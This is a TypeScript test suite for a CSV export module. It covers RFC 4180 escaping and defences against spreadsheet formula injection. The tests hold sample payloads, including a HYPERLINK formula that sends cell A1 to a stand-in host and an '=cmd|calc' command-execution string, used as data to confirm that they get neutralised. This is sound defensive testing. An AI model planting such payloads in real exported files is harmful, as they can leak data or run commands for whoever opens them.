import { describe, expect, it } from 'vitest';
import { parseCsv } from '../../../tests/support/parse-csv.ts';
import { escapeCsvField, isFormulaLike, toCsv } from './csv.ts';

describe('RFC 4180 CSV', () => {
  it.each([
    ['plain', 'plain'],
    ['a,b', '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ['two\nlines', '"two\nlines"'],
    [-1.5, '-1.5'],
    [0, '0'],
    [null, ''],
    [undefined, ''],
    [true, 'true'],
    [Number.NaN, ''],
    [Number.POSITIVE_INFINITY, ''],
    [new Date('2025-01-02T03:04:05Z'), '2025-01-02T03:04:05.000Z'],
  ] as const)('%j -> %s', (value, want) => {
    expect(escapeCsvField(value)).toBe(want);
  });

  it('writes a header, CRLF line ends and a final CRLF', () => {
    expect(
      toCsv(
        ['a', 'b'],
        [
          [1, 'x,y'],
          [null, 2],
        ],
      ),
    ).toBe('a,b\r\n1,"x,y"\r\n,2\r\n');
  });
});

describe('formula injection', () => {
  // Every character a spreadsheet starts a formula with, alone, after spaces and in a payload.
  const triggers = ['=', '+', '-', '@', '\t', '\r', '\uff1d', '\uff0b', '\uff0d', '\uff20'];
  const prefixes = ['', ' ', '   ', '\u00a0', '\u3000', '\n', ' \t '];

  it.each(
    triggers.flatMap((t) =>
      prefixes.map((p) => [JSON.stringify(p + t), `${p}${t}HYPERLINK("http://x/?"&A1)`]),
    ),
  )('a text field starting with %s is written with a leading quote', (_name, text) => {
    const field = escapeCsvField(text);
    // Read back as a spreadsheet would: the cell starts with the quote, the rest is unchanged.
    const [row] = parseCsv(`${field}\r\n`);
    expect(row).toEqual([`'${text}`]);
    expect(isFormulaLike(text)).toBe(true);
  });

  it.each([
    'plain',
    'a=b',
    'x-1',
    'user@example.com',
    'https://github.com/acme/api/pull/1',
    '2025-01-02',
    '',
  ])('%j is left as it is', (text) => {
    expect(isFormulaLike(text)).toBe(false);
    expect(parseCsv(`${escapeCsvField(text)}\r\n`)[0]).toEqual([text]);
  });

  it('keeps numbers passed as numbers numeric, negatives included; the same figure as text is quoted', () => {
    expect(toCsv(['v'], [[-5], [-2.5], ['-5'], ['=1+1']])).toBe("v\r\n-5\r\n-2.5\r\n'-5\r\n'=1+1\r\n");
  });

  it('neutralises header cells too', () => {
    expect(toCsv(['=cmd|calc'], [])).toBe("'=cmd|calc\r\n");
  });
});
